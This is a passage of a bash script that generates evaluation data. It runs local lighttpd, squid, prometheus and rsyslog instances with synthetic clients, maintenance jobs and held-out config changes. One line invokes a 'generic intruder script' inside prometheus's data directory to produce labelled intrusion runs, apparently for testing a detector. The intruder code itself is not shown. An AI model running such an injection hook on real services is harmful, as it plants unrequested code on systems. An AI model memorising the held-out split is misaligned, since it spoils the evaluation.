# assets and conditional GETs of them; users of training from new addresses. After the
# restart in the middle, the config changed and applied by a graceful restart (USR1):
# max-procs 3 and, in conf/conf.d/assets.conf, mod_expire for /assets/ and a header set by
# mod_setenv. Every 20 s in turn, maint.php with other arguments (--purge-cache 10 --sessions
# 120 --analyze --report weekly; --purge-cache 0 --vacuum --report monthly) and a rotation
# that gzips the generation before.
lighttpd_heldout_deploy() {
  local v2=$LT_HTDOCS/assets/v2 i
  mkdir -p "$v2"/{css,js,fonts,img}
  echo ".hero { display: grid }" >"$v2/css/theme.css"
  echo "(() => { document.body.dataset.v = 2 })()" >"$v2/js/bundle.js"
  for i in 1 2; do head -c 24000 /dev/urandom >"$v2/fonts/inter-$i.woff2"; done
  echo '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>' >"$v2/img/logo.svg"
  lighttpd_users 21 40
}
lighttpd_heldout_mix() {
  local r=$((LT_ROUND += 1)) q=(maple teak bamboo cedar birch ash) ext=(jpg csv docx pdf png) src=()
  local n1 n2 old i
  for i in 0 1 2 3 4 5; do src+=("127.0.24.$((1 + (r * 41 + i * 37) % 250))"); done
  n1=u$((21 + r % 20)) n2=u$((21 + (r + 7) % 20)) old=u$(printf %02d $((1 + r % 20)))
  lighttpd_clients 5 <<L
ka ${src[0]} /index.php?sort=name&page=$((2 + r % 9)) /assets/v2/css/theme.css /assets/v2/js/bundle.js /assets/v2/fonts/inter-$((1 + r % 2)).woff2 /assets/v2/img/logo.svg cond:/assets/v2/css/theme.css
ka ${src[1]} login:$n1 upload:export-$r.${ext[r % 5]}:$((10000 + r * 7919 % 390000)):2026-12-$(printf %02d $((1 + r % 28))) /api.php?op=stats $([ $((r % 2)) = 0 ] && echo logout)
ka ${src[2]} $(lighttpd_seq '/api.php?id=' $((100 + r % 50)) $((120 + r % 50))) /api.php?op=items&page=$((11 + r % 10))&sort=price
cpr ${src[3]} /report.php?q=${q[r % 6]}&page=$((1 + r % 4)) /api.php?op=search&q=${q[(r + 3) % 6]} /index.php?sort=stock&page=$((5 + r % 6)) /assets/img/photos/2026/$((1 + r % 24)).jpg
ka ${src[4]} login:$old note:$((500 + r * 131 % 4000)) stock:$((120 + r % 80)):3 /account.php
ka ${src[5]} login:$n2 upload:photo-$r.jpg:$((40000 + r * 3571 % 200000)):2026-12-$(printf %02d $((1 + (r + 9) % 28))) logout
L
}
LT_HELDOUT_JOBS=0
lighttpd_heldout_job() {
  LT_HELDOUT_JOBS=$((LT_HELDOUT_JOBS + 1))
  if [ $((LT_HELDOUT_JOBS % 2)) = 1 ]; then
    lighttpd_maint --purge-cache 10 --sessions 120 --analyze --report weekly
  else
    lighttpd_rotate gzip
    lighttpd_maint --purge-cache 0 --vacuum --report monthly
  fi
}
lighttpd_heldout_reload() {
  lighttpd_config 3
  cat >"$LT_DIR/conf/conf.d/assets.conf" <<CONF
server.modules += ("mod_expire")
\$HTTP["url"] =~ "^/assets/" {
  expire.url = ("/assets/" => "access plus 7 days")
  setenv.add-response-header = ("X-Release" => "2.4.0")
}
CONF
  chmod 644 "$LT_DIR/conf/conf.d/assets.conf"
  admin lighttpd root /usr/sbin/lighttpd -tt -f "$LT_CONF"
  lighttpd_graceful
}

# Held out, seventeenth set (heldout17). No deploy. A cold start under load: squid starts
# inside the recording while clients already retry (heldout17_begin). Clients from
# 127.0.19.1-250 through squid for every fourth page, every fifth image, news and documents
# (another offset each round), the home page, the stylesheet and the API, as many at a time as
# the slow wave's load; once the second port is in, a third of them through it; one more
# client in turn (heldout17_odd, through the proxy): upper-case, percent-encoded and
# dot-segment forms of the stylesheet, requests for a document sent and closed without reading,
# eight clients at once on one news item that must be revalidated, an order posted with a
# chunked body, 40 one-byte ranges over one connection, an absolute-form request with two
# ranges and `OPTIONS *`. The maintenance, early: the running squid checked (`squid -k
# check`) and the cache manager's counters and IP cache pages (squidclient, root, inside the
# cgroup). The change, in the middle, by a full restart (TERM, `squid -z`, start): an include
# directory (conf/conf.d/*.conf) with a second listening port on 127.0.0.1:$SQUID_PORT2 for
# the office's clients and collapsed forwarding (concurrent misses for one URL share one
# fetch). The maintenance, late, while the load falls: the memory pools and the open files
# listed (`mgr:mem`, `mgr:filedescriptors`). The recording ends with load still running.
SQUID_PORT2=13129
SQUID_HELDOUT17_PORT2=0
squid_heldout17_deploy() { SQUID_HELDOUT17_PORT2=0; heldout17_free_port "$SQUID_PORT2"; }
squid_heldout17_mix() {
  local r=$HELDOUT17_ROUND proxy=$SQUID_PROXY
  local paths=(/ /static/app.css /api/status "/news/$((r % 12))")
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /page/ 4 60 "$r"; every_nth /img/ 5 40 "$r" .png
    every_nth /docs/ 7 20 "$r" .pdf)
  [ "$SQUID_HELDOUT17_PORT2" = 0 ] || [ $((r % 3)) != 0 ] || proxy=http://127.0.0.1:$SQUID_PORT2
  http_proxy=$proxy heldout17_get "${SQUID_ORIGIN_PORTS[0]}" "${paths[@]}"
  HELDOUT17_VIA=$SQUID_PORT heldout17_odd "${SQUID_ORIGIN_PORTS[0]}" /static/app.css /docs/3.pdf /news/1 /api/order
}
squid_heldout17_early() { squid_ctl -k check; squid_mgr counters ipcache; }
squid_heldout17_change() {
  squid_stop
  mkdir -p "$SQUID_DIR/conf/conf.d"
  printf '%s\n' "http_port 127.0.0.1:$SQUID_PORT2 name=office" 'collapsed_forwarding on' >"$SQUID_DIR/conf/conf.d/office.conf"
  chmod 644 "$SQUID_DIR/conf/conf.d/office.conf"
  sed -i "s|^http_port 127.0.0.1:$SQUID_PORT\$|&\ninclude $SQUID_DIR/conf/conf.d/*.conf|" "$SQUID_CONF"
  grep -q '^include ' "$SQUID_CONF" || die "squid heldout17: squid.conf not changed"
  squid_start
  until_ok postfix_listening "$SQUID_PORT2"
  SQUID_HELDOUT17_PORT2=1
}
squid_heldout17_late() { squid_mgr mem filedescriptors; }

# --- prometheus ---------------------------------------------------------------------------

PROM_PORT=19090
PROM_DIR=$WORK/prometheus
PROM_CONF=$PROM_DIR/conf/prometheus.yml
PROM_DATA=$PROM_DIR/data          # the TSDB: ULID-named blocks, wal/, chunks_head/, snapshots/
PROM_URL=http://127.0.0.1:$PROM_PORT
PROM_EXPORTER_PORT=19100          # the scrape targets listen on 127.0.0.11-16 (outside the cgroup)
PROM_EXPORTER=$WORK/prometheus-exporter.py
PROM_RETENTION=2h
declare -A PROM_EXPORTER_PIDS=()  # exporter address -> pid

# prometheus 2.42 (Debian prometheus), as its own instance, not the system service (its unit and
# init script disabled): `prometheus --config.file=conf/prometheus.yml --storage.tsdb.path=data`
# run as prometheus in dw-eval/prometheus, on 127.0.0.1:$PROM_PORT, with the admin API and the
# lifecycle API (POST /-/reload) enabled, and 1-minute blocks compacted up to 5 minutes, so the
# TSDB cuts and compacts blocks (ULID-named directories, WAL segments and checkpoints,
# chunks_head files) within minutes. Its config, recording and alerting rules and file_sd target
# lists, root-owned, in conf/; its data in data/. Scrape targets: python3 exporters outside the
# cgroup serving /metrics on 127.0.0.11-14 (training) and .15-16 (held out), scraped every 1-2 s.
# TERM stops it (the unit's stop); it replays its WAL at each start.
prometheus_provision() {
  if ss -Hltn "sport = :$PROM_PORT" | grep -q .; then die "port $PROM_PORT is in use"; fi
  local a
  for a in "${!PROM_EXPORTER_PIDS[@]}"; do prometheus_exporter_down "$a"; done
  rm -rf "$PROM_DIR"
  mkdir -p "$PROM_DIR"/conf/{rules,targets} "$PROM_DATA"
  prometheus_exporter_tool
  prometheus_config
  prometheus_rules
  chown -R prometheus:prometheus "$PROM_DATA"
  promtool check config "$PROM_CONF" >/dev/null || die "promtool check config failed on $PROM_CONF"
  for a in 11 12 13 14; do prometheus_exporter_up "127.0.0.$a"; done
}

# The scrape targets: one python3 process per address (so one can go down), counters that
# grow with time, a gauge and a histogram, in the text exposition format.
prometheus_exporter_tool() {
  cat >"$PROM_EXPORTER" <<'PY'
import http.server, random, sys, time
addr, port = sys.argv[1], int(sys.argv[2])
start = time.time()
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass
    def do_GET(self):
        if self.path != "/metrics":
            self.send_error(404)
            return
        t = time.time() - start
        out = ["# TYPE exporter_requests_total counter"]
        for code, share in (("200", 40), ("404", 3), ("500", 1)):
            for path in ("/api", "/login", "/static"):
                out.append('exporter_requests_total{code="%s",path="%s"} %d' % (code, path, int(t * share)))
        out += ["# TYPE exporter_queue_depth gauge", "exporter_queue_depth %d" % random.randint(0, 40),
                "# TYPE exporter_request_duration_seconds histogram"]
        n = int(t * 44)
        for le, f in (("0.05", 0.5), ("0.1", 0.7), ("0.5", 0.9), ("1", 0.97), ("+Inf", 1.0)):
            out.append('exporter_request_duration_seconds_bucket{le="%s"} %d' % (le, int(n * f)))
        out += ["exporter_request_duration_seconds_sum %.3f" % (n * 0.08),
                "exporter_request_duration_seconds_count %d" % n]
        body = ("\n".join(out) + "\n").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/plain; version=0.0.4")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
http.server.ThreadingHTTPServer((addr, port), H).serve_forever()
PY
}
# prometheus_exporter_up ADDR / _down ADDR: a scrape target started or stopped.
prometheus_exporter_up() {
  python3 "$PROM_EXPORTER" "$1" "$PROM_EXPORTER_PORT" &
  PIDS+=($!)
  PROM_EXPORTER_PIDS[$1]=$!
  until_ok curl -sf -o /dev/null "http://$1:$PROM_EXPORTER_PORT/metrics"
}
prometheus_exporter_down() { stop_pid "${PROM_EXPORTER_PIDS[$1]}" TERM; unset "PROM_EXPORTER_PIDS[$1]"; }

# conf/prometheus.yml: job node (127.0.0.11-12) every 1 s, job app (127.0.0.13-14) every 2 s,
# job batch from the file_sd list conf/targets/*.json (empty until the held-out deploy), the
# rules files conf/rules/*.yml evaluated every 2 s.
prometheus_config() {
  cat >"$PROM_CONF" <<YML
global:
  scrape_interval: 2s
  scrape_timeout: 1s
  evaluation_interval: 2s
  external_labels: {site: dw-eval}
rule_files: ["$PROM_DIR/conf/rules/*.yml"]
scrape_configs:
  - job_name: node
    scrape_interval: 1s
    static_configs: [{targets: ["127.0.0.11:$PROM_EXPORTER_PORT", "127.0.0.12:$PROM_EXPORTER_PORT"], labels: {tier: infra}}]
  - job_name: app
    static_configs: [{targets: ["127.0.0.13:$PROM_EXPORTER_PORT", "127.0.0.14:$PROM_EXPORTER_PORT"], labels: {tier: web}}]
  - job_name: batch
    file_sd_configs: [{files: ["$PROM_DIR/conf/targets/*.json"], refresh_interval: 5s}]
YML
  chmod 644 "$PROM_CONF"
}
# The recording rules (per-job request and error rates, latency quantiles) and the alerting
# rules (a target down, an error ratio, a deep queue).
prometheus_rules() {
  cat >"$PROM_DIR/conf/rules/recording.yml" <<'YML'
groups:
  - name: requests
    interval: 2s
    rules:
      - record: job:exporter_requests:rate1m
        expr: sum by (job) (rate(exporter_requests_total[1m]))
      - record: job:exporter_errors:ratio1m
        expr: sum by (job) (rate(exporter_requests_total{code=~"5.."}[1m])) / sum by (job) (rate(exporter_requests_total[1m]))
      - record: job:exporter_latency:p90
        expr: histogram_quantile(0.9, sum by (job, le) (rate(exporter_request_duration_seconds_bucket[1m])))
YML
  cat >"$PROM_DIR/conf/rules/alerts.yml" <<'YML'
groups:
  - name: alerts
    interval: 2s
    rules:
      - alert: TargetDown
        expr: up == 0
        for: 4s
        labels: {severity: page}
        annotations: {summary: "{{ $labels.instance }} of {{ $labels.job }} is down"}
      - alert: HighErrorRatio
        expr: job:exporter_errors:ratio1m > 0.05
        for: 10s
        labels: {severity: ticket}
      - alert: QueueDeep
        expr: max_over_time(exporter_queue_depth[30s]) > 38
        labels: {severity: info}
YML
  chmod 644 "$PROM_DIR"/conf/rules/*.yml
  promtool check rules "$PROM_DIR"/conf/rules/*.yml >/dev/null || die "promtool check rules failed"
}

PROM_PID=
# Started as prometheus.service does (ExecStart, as prometheus); ready once /-/ready answers
# (after the WAL replay).
prometheus_ready() { curl -sf -o /dev/null "$PROM_URL/-/ready"; }
prometheus_start() {
  launch prometheus prometheus /usr/bin/prometheus --config.file="$PROM_CONF" \
    --storage.tsdb.path="$PROM_DATA" --web.listen-address="127.0.0.1:$PROM_PORT" \
    --storage.tsdb.min-block-duration=1m --storage.tsdb.max-block-duration=5m \
    --storage.tsdb.retention.time="$PROM_RETENTION" --web.enable-admin-api --web.enable-lifecycle
  PROM_PID=$LAUNCHED
  until_ok prometheus_ready
}
# Stopped by TERM; the script's own summary of what the TSDB holds.
prometheus_stop() {
  stop_pid "$PROM_PID" TERM
  echo "record-testdata: prometheus: $(find "$PROM_DATA" -maxdepth 1 -name '01*' | wc -l) blocks," \
    "$(find "$PROM_DATA/wal" -maxdepth 1 -name 'checkpoint.*' 2>/dev/null | wc -l) checkpoints," \
    "$(find "$PROM_DATA/snapshots" -mindepth 1 -maxdepth 1 2>/dev/null | wc -l) snapshots" >&2
}

# prometheus_post PATH: an operator's POST to the lifecycle or admin API (from 127.0.0.1,
# outside the cgroup).
prometheus_post() { curl -sf -o /dev/null -X POST "$PROM_URL$1" || echo "record-testdata: prometheus: POST $1 failed" >&2; }
# prometheus_q [KEY=EXPR...]: the path of an API call, its expressions percent-encoded:
# prometheus_q /api/v1/query query='rate(x[1m])' -> /api/v1/query?query=rate%28x%5B1m%5D%29
# (keys too: match[] -> match%5B%5D, so curl does not take the brackets for a glob).
prometheus_q() {
  local path=$1 sep='?' kv
  shift
  for kv in "$@"; do
    path+="$sep$(jq -rn --arg k "${kv%%=*}" --arg v "${kv#*=}" '"\($k | @uri)=\($v | @uri)"')"
    sep='&'
  done
  echo "$path"
}
# prometheus_range EXPR SECONDS STEP: a range query over the last SECONDS.
prometheus_range() {
  local now
  now=$(date +%s)
  prometheus_q /api/v1/query_range query="$1" start=$((now - $2)) end="$now" step="$3"
}
# prometheus_clients NET FIRST COUNT CONC PATH...: the query clients (curl, outside the cgroup),
# four requests per connection, CONC connections at a time, from NET.FIRST .. NET.(FIRST+COUNT-1).
PROM_ROUND=0
prometheus_clients() { spread_get "$PROM_PORT" "$1" "$2" "$3" 7 11 "$PROM_ROUND" 4 "$4" "${@:5}"; }

# Mix A: three clients (127.0.0.2-4): instant queries (up, request rates, the recording rules'
# series, a latency quantile), range queries over 2 and 5 minutes, series, label names and
# values, targets, rules, alerts, the build info and TSDB status, and the web UI's page.
prometheus_mix_a() {
  local r=$((PROM_ROUND += 1))
  prometheus_clients 127.0.0 2 3 3 \
    "$(prometheus_q /api/v1/query query=up)" \
    "$(prometheus_q /api/v1/query query='sum by (job) (rate(exporter_requests_total[30s]))')" \
    "$(prometheus_q /api/v1/query query='job:exporter_requests:rate1m')" \
    "$(prometheus_q /api/v1/query query='job:exporter_latency:p90')" \
    "$(prometheus_range 'job:exporter_requests:rate1m' 120 2)" \
    "$(prometheus_range "rate(exporter_requests_total{job=\"node\",code=\"200\"}[$((10 + r % 3 * 10))s])" 300 5)" \
    "$(prometheus_q /api/v1/series 'match[]=exporter_queue_depth')" \
    /api/v1/labels /api/v1/label/job/values /api/v1/targets /api/v1/rules /api/v1/alerts \
    /api/v1/status/buildinfo /api/v1/status/tsdb /graph
}
# Mix B: other clients (127.0.0.5-8), one connection and then six: the histogram and gauge
# queries per instance, errors by path, other windows and steps, series of the app job, label
# values of instance and path, the config, flags and runtime info, targets' metadata.
prometheus_mix_b() {
  local r=$((PROM_ROUND += 1)) paths
  paths=("$(prometheus_q /api/v1/query query='max by (instance) (exporter_queue_depth)')"
    "$(prometheus_q /api/v1/query query='sum by (path) (rate(exporter_requests_total{code="404"}[1m]))')"
    "$(prometheus_q /api/v1/query query='job:exporter_errors:ratio1m > 0' time="$(($(date +%s) - 30))")"
    "$(prometheus_range 'histogram_quantile(0.5, sum by (instance, le) (rate(exporter_request_duration_seconds_bucket[30s])))' 60 1)"
    "$(prometheus_range "avg_over_time(exporter_queue_depth{job=\"app\"}[$((5 + r % 4 * 5))s])" 600 15)"
    "$(prometheus_q /api/v1/series 'match[]=up{job="app"}' 'match[]=exporter_request_duration_seconds_count')"
    /api/v1/label/instance/values /api/v1/label/path/values /api/v1/status/config /api/v1/status/flags
    /api/v1/status/runtimeinfo "$(prometheus_q /api/v1/targets/metadata 'match_target={job="app"}')")
  prometheus_clients 127.0.0 5 4 1 "${paths[@]:0:4}"
  prometheus_clients 127.0.0 5 4 6 "${paths[@]}" "${paths[@]:3}"
}
# prometheus_tool ARGS...: promtool run as prometheus inside the cgroup (an operator's check).
prometheus_tool() { admin prometheus prometheus /usr/bin/promtool "$@"; }
# Its maintenance in training, in turn: the config reloaded (POST /-/reload); a snapshot by the
# admin API into data/snapshots/; the config and rules checked and the TSDB analysed by
# promtool as prometheus in the cgroup (analyze, or a listing before the first block).
PROM_JOBS=0
prometheus_maintenance() {
  case $((PROM_JOBS++ % 3)) in
    0) prometheus_post /-/reload ;;
    1) prometheus_post /api/v1/admin/tsdb/snapshot ;;
    2) prometheus_tool check config "$PROM_CONF"
       prometheus_tool check rules "$PROM_DIR"/conf/rules/recording.yml "$PROM_DIR"/conf/rules/alerts.yml
       # analyze needs a persisted block; before the first one, the listing.
       if find "$PROM_DATA" -maxdepth 1 -name '01*' | grep -q .; then prometheus_tool tsdb analyze --limit=5 "$PROM_DATA"
       else prometheus_tool tsdb list "$PROM_DATA"; fi ;;
  esac
}

# The generic intruder script as prometheus in its data directory.
prometheus_inject() { inject_shell prometheus prometheus "$PROM_DATA"; }
prometheus_labels() { write_labels prometheus "$PROM_DATA"; }

# Held out. A deploy from outside the cgroup (root) while it runs: six hours of history
# migrated from an old server (`promtool tsdb create-blocks-from openmetrics`, blocks written
# into data/ and owned by prometheus, so the TSDB loads them and its 2 h retention deletes the
# older ones), two new targets (127.0.0.15-16) in a file_sd list of the job batch, a new
# rules file, and a reload. Clients from 127.0.25.1-250 (another offset each round) with other
# queries (the new jobs and rules, the history, the series of one instance, alert and
# scrape-pool views), 5 at a time; target 127.0.0.12 down for three rounds and back. Every
# 20 s in turn: series of the history deleted by the admin API and the tombstones cleaned;
# another snapshot (without the head). After the restart, more recording rules and a reload.
prometheus_heldout_deploy() {
  local now a
  PROM_ROUND=0
  now=$(date +%s)
  python3 - "$now" >"$WORK/prometheus-history.om" <<'PY'
import sys
now = int(sys.argv[1])
print("# TYPE legacy_requests counter")
for t in range(now - 6 * 3600, now - 3600, 60):
    for host in ("web1", "web2", "web3"):
        print('legacy_requests_total{host="%s"} %d %d' % (host, (t - now + 6 * 3600) // 6, t))
print("# EOF")
PY
  promtool tsdb create-blocks-from openmetrics --max-block-duration=1h "$WORK/prometheus-history.om" \
    "$PROM_DATA" >/dev/null || die "promtool create-blocks-from failed"
  chown -R prometheus:prometheus "$PROM_DATA"
  for a in 15 16; do prometheus_exporter_up "127.0.0.$a"; done
  cat >"$PROM_DIR/conf/targets/batch.json" <<JSON
[{"targets": ["127.0.0.15:$PROM_EXPORTER_PORT", "127.0.0.16:$PROM_EXPORTER_PORT"], "labels": {"tier": "batch"}}]
JSON
  prometheus_heldout_rules batch 'sum by (instance) (rate(exporter_requests_total{job="batch"}[30s]))'
}
# prometheus_heldout_rules NAME EXPR: a new recording rule instance:NAME:rate30s in its own
# file, checked by promtool as prometheus in the cgroup, and a reload.
prometheus_heldout_rules() {
  printf 'groups:\n  - name: %s\n    interval: 3s\n    rules:\n      - record: instance:%s:rate30s\n        expr: %s\n' \
    "$1" "$1" "$2" >"$PROM_DIR/conf/rules/$1.yml"
  chmod 644 "$PROM_DIR/conf/rules/$1.yml" "$PROM_DIR/conf/targets/batch.json"
  prometheus_tool check rules "$PROM_DIR/conf/rules/$1.yml"
  prometheus_post /-/reload
}
prometheus_heldout_mix() {
  local r=$((PROM_ROUND += 1))
  case $r in
    4) prometheus_exporter_down 127.0.0.12 ;;
    7) prometheus_exporter_up 127.0.0.12 ;;
  esac
  prometheus_clients 127.0.25 1 250 5 \
    "$(prometheus_q /api/v1/query query='instance:batch:rate30s')" \
    "$(prometheus_q /api/v1/query query='up{job="batch"} or up{instance="127.0.0.12:19100"}')" \
    "$(prometheus_q /api/v1/query query='count by (tier) (up == 1)')" \
    "$(prometheus_q /api/v1/query query='sum by (host) (increase(legacy_requests_total[2h]))' time="$(($(date +%s) - 7200))")" \
    "$(prometheus_range 'sum(rate(legacy_requests_total[10m]))' $((5 * 3600)) 300)" \
    "$(prometheus_range "topk(2, rate(exporter_requests_total{job=\"batch\"}[$((15 + r % 3 * 5))s]))" 90 3)" \
    "$(prometheus_q /api/v1/series 'match[]={instance="127.0.0.15:19100"}')" \
    "$(prometheus_q /api/v1/labels 'match[]=legacy_requests_total')" \
    /api/v1/label/host/values /api/v1/label/tier/values "$(prometheus_q /api/v1/targets state=active)" \
    "$(prometheus_q /api/v1/rules type=record)" "$(prometheus_q /api/v1/rules type=alert)" /api/v1/alerts \
    /api/v1/status/walreplay /api/v1/targets/metadata /api/v1/metadata
}
PROM_HELDOUT_JOBS=0
prometheus_heldout_job() {
  if [ $((PROM_HELDOUT_JOBS++ % 2)) = 0 ]; then
    prometheus_post "$(prometheus_q /api/v1/admin/tsdb/delete_series 'match[]=legacy_requests_total{host="web3"}')"
    prometheus_post /api/v1/admin/tsdb/clean_tombstones
  else
    prometheus_post "$(prometheus_q /api/v1/admin/tsdb/snapshot skip_head=true)"
  fi
}
prometheus_heldout_reload() {
  prometheus_heldout_rules paths 'sum by (instance, path) (rate(exporter_requests_total{code="200"}[30s]))'
}

# --- rsyslog ------------------------------------------------------------------------------

RSYSLOG_PORT=15514                 # imtcp and imudp, both on 127.0.0.1
RS_DIR=$WORK/rsyslog
RS_CONF=$RS_DIR/conf/rsyslog.conf
RS_REMOTE=$RS_DIR/remote           # the senders' logs: remote/<hostname>/<programname>.log
RS_OUT=$RS_DIR/out                 # the JSON output file and impstats' counters
RS_USER=dwsyslog                   # rsyslogd drops to it (removed at the end)
RS_TOOL=$WORK/rsyslog-client.py    # the senders (python3 sockets, outside the cgroup)

# rsyslog 8.2302 (Debian rsyslog) as a central log collector, its own instance, not the
# system service (none runs here; its unit is disabled when this script installed it):
# `rsyslogd -n -f conf/rsyslog.conf -i run/rsyslogd.pid` started as root in dw-eval/rsyslog,
# in the foreground; it binds imtcp and imudp on 127.0.0.1:$RSYSLOG_PORT and drops to
# $RS_USER (global privdrop.*). No imuxsock, imjournal or imklog: it reads no log of the
# host, only what the network brings. Its root-owned config in conf/; its work directory
# work/ (global workDirectory) holds the disk-assisted queue of the JSON action (an
# in-memory queue of 200 messages that spills to work/json.* files past 120, kept over a
# restart by saveOnShutdown); each message is written through a dynamic file template into
# remote/<HOSTNAME>/<PROGRAMNAME>.log (securepath: a '/' in a name is replaced; directories
# and files created on demand, 64 kept open) and, through the queue, as one JSON line into
# out/all.json; impstats writes its counters to out/impstats.log every 30 s. HUP closes its
# files (reopened at the next message: how logrotate's postrotate has it reopen them); TERM
# stops it, the queue saved.
rsyslog_cleanup() { if id -u "$RS_USER" >/dev/null 2>&1; then userdel "$RS_USER" >/dev/null 2>&1 || true; fi; }
rsyslog_provision() {
  if ss -Hlntu "sport = :$RSYSLOG_PORT" | grep -q .; then die "port $RSYSLOG_PORT is in use"; fi
  # The user lives outside $WORK: removed by the shared cleanup.
  HOST_CLEANUP+=(rsyslog_cleanup)
  id "$RS_USER" >/dev/null 2>&1 ||
    useradd --system --user-group --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin "$RS_USER"
  rm -rf "$RS_DIR"
  mkdir -p "$RS_DIR"/{conf,work,run} "$RS_REMOTE" "$RS_OUT"
  chown "$RS_USER:$RS_USER" "$RS_DIR"/{work,run} "$RS_REMOTE" "$RS_OUT"
  rsyslog_config
  rsyslog_client_tool
  /usr/sbin/rsyslogd -N1 -f "$RS_CONF" >/dev/null 2>&1 || die "rsyslogd -N1 failed on $RS_CONF"
}

# rsyslog_config [daily]: conf/rsyslog.conf (world-readable). With daily (heldout's change):
# the per-host files go into a directory per day (remote/<host>/<YYYY-MM-DD>/<program>.log)
# and a new ruleset copies warnings and worse, and the kernel's messages, into
# remote/_alerts/<host>.log.
rsyslog_config() {
  local dir='constant(value="/")' alerts=''
  if [ "${1:-}" = daily ]; then
    dir='constant(value="/") property(name="timereported" dateFormat="year") constant(value="-")
  property(name="timereported" dateFormat="month") constant(value="-") property(name="timereported" dateFormat="day")
  constant(value="/")'
    # shellcheck disable=SC2016 # rsyslog's own variables, not the shell's
    alerts='if $syslogseverity <= 4 or $programname == "kernel" then call alerts'
  fi
  cat >"$RS_CONF" <<CONF
global(workDirectory="$RS_DIR/work" maxMessageSize="8k"
       privdrop.user.name="$RS_USER" privdrop.group.name="$RS_USER")
module(load="imtcp" maxSessions="200")
module(load="imudp")
module(load="impstats" interval="30" log.syslog="off" log.file="$RS_OUT/impstats.log")

template(name="PerHostFile" type="list") {
  constant(value="$RS_REMOTE/") property(name="hostname" securepath="replace")
  $dir
  property(name="programname" securepath="replace") constant(value=".log")
}
template(name="AlertFile" type="list") {
  constant(value="$RS_REMOTE/_alerts/") property(name="hostname" securepath="replace") constant(value=".log")
}
template(name="JsonLine" type="list" option.jsonf="on") {
  property(outname="time" name="timereported" dateFormat="rfc3339" format="jsonf")
  property(outname="host" name="hostname" format="jsonf")
  property(outname="from" name="fromhost-ip" format="jsonf")
  property(outname="program" name="programname" format="jsonf")
  property(outname="severity" name="syslogseverity-text" format="jsonf")
  property(outname="message" name="msg" format="jsonf")
}

ruleset(name="alerts") {
  action(type="omfile" dynaFile="AlertFile" dirCreateMode="0750" fileCreateMode="0640")
}
ruleset(name="remote") {
  action(type="omfile" dynaFile="PerHostFile" dynaFileCacheSize="64" dirCreateMode="0750" fileCreateMode="0640")
  $alerts
  action(type="omfile" file="$RS_OUT/all.json" template="JsonLine" fileCreateMode="0640"
         queue.type="LinkedList" queue.filename="json" queue.size="200" queue.highWatermark="120"
         queue.lowWatermark="40" queue.maxDiskSpace="64m" queue.saveOnShutdown="on" queue.dequeueBatchSize="32")
}

input(type="imtcp" address="127.0.0.1" port="$RSYSLOG_PORT" ruleset="remote")
input(type="imudp" address="127.0.0.1" port="$RSYSLOG_PORT" ruleset="remote")
CONF
  chmod 644 "$RS_CONF"
}

# The senders, in python3 (outside the cgroup): `rsyslog-client.py PORT JOBS` reads one sender
# a line, `PROTO SRC HOST PROGRAM COUNT [PACE [FORMAT]]`, and runs JOBS of them at a time:
# COUNT messages from the source address SRC over one TCP connection or as UDP datagrams
# (PROTO tcp or udp), with HOSTNAME HOST and the tag PROGRAM[pid], PACE s apart (0: a burst),
# in RFC 3164 (FORMAT 3164, LF-framed over TCP) or RFC 5424 (5424, octet-counted over TCP).
# What a message says, and its facility and severity, follow from PROGRAM (one in 25 an
# error).
rsyslog_client_tool() {
  cat >"$RS_TOOL" <<'PY'
import socket, sys, time, concurrent.futures as cf

PORT, JOBS = int(sys.argv[1]), int(sys.argv[2])
# program: (facility, severity, message with %d for the running number)
KINDS = {
    "nginx": (16, 6, '10.1.%d.7 - - "GET /shop/item/%d HTTP/1.1" 200 5123 "-" "Mozilla/5.0"'),
    "postgres": (16, 6, "LOG:  duration: 1.%03d ms  statement: SELECT * FROM orders WHERE id = %d"),
    "cron": (9, 6, "(root) CMD (run-parts --report /etc/cron.hourly) #%d.%d"),
    "sshd": (10, 6, "Accepted publickey for deploy from 10.0.%d.%d port 52144 ssh2"),
    "kernel": (0, 4, "[%d.%06d] nf_conntrack: table full, dropping packet"),
    "app": (17, 6, '{"level":"info","msg":"order created","order":%d,"ms":%d}'),
}
OTHER = (1, 6, "job %d: step %d done")

def message(prog, host, n, fmt, pid):
    fac, sev, text = KINDS.get(prog, OTHER)
    if n % 25 == 24:
        sev = 3
    body = text % (n % 250, n)
    pri = fac * 8 + sev
    if fmt == "5424":
        ts = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime()) + ".%06dZ" % (time.time() % 1 * 1e6)
        return ("<%d>1 %s %s %s %d - - %s" % (pri, ts, host, prog, pid, body)).encode()
    ts = time.strftime("%b %e %H:%M:%S")
    return ("<%d>%s %s %s[%d]: %s" % (pri, ts, host, prog, pid, body)).encode()

def send(line):
    f = line.split()
    proto, src, host, prog, count = f[0], f[1], f[2], f[3], int(f[4])
    pace = float(f[5]) if len(f) > 5 else 0.0
    fmt = f[6] if len(f) > 6 else "3164"
    pid = 1000 + sum(map(ord, host + prog)) % 30000
    kind = socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM
    with socket.socket(socket.AF_INET, kind) as s:
        s.bind((src, 0))
        s.connect(("127.0.0.1", PORT))
        for n in range(count):
            m = message(prog, host, n, fmt, pid)
            if proto == "udp":
                s.send(m)
            elif fmt == "5424":
                s.sendall(b"%d %s" % (len(m), m))
            else:
                s.sendall(m + b"\n")
            if pace:
                time.sleep(pace)

lines = [l for l in sys.stdin.read().splitlines() if l.strip()]
with cf.ThreadPoolExecutor(JOBS) as pool:
    for fut in [pool.submit(send, l) for l in lines]:
        try:
            fut.result()
        except OSError as e:
            print("rsyslog-client: %s" % e, file=sys.stderr)
PY
}

RS_PID=
rsyslog_start() {
  launch rsyslog root /usr/sbin/rsyslogd -n -f "$RS_CONF" -i "$RS_DIR/run/rsyslogd.pid"
  RS_PID=$LAUNCHED
  until_ok postfix_listening "$RSYSLOG_PORT"
}
# TERM: rsyslog drains its inputs, saves the queue and exits; the rounds so far are reported
# (the README counts them).
rsyslog_stop() {
  stop_pid "$RS_PID" TERM
  echo "record-testdata: rsyslog: $RS_ROUND rounds so far" >&2
}
# rsyslog_check: the operator's config check, `rsyslogd -N1 -f conf/rsyslog.conf`, as root in
# the cgroup.
